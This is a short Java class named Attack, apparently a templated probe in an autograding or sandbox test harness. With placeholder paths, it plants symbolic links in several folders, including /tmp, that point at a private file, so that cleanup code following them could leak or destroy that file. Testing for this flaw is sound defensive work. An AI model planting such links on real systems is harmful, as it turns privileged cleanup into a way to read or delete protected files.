package autograd;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;

/** Leaves links where whoever cleans up may follow them. */
final class Attack {
    static void run() throws Throwable {
        IOException last = null;
        for (String folder : new String[] {"@FOLDER@", ".", "/tmp"}) {
            try {
                Files.createSymbolicLink(Path.of(folder, "@MARK@"), Path.of("@PRIVATE_FILE@"));
            } catch (IOException refused) {
                last = refused;
            }
        }
        if (last != null) {
            throw last;
        }
    }
}
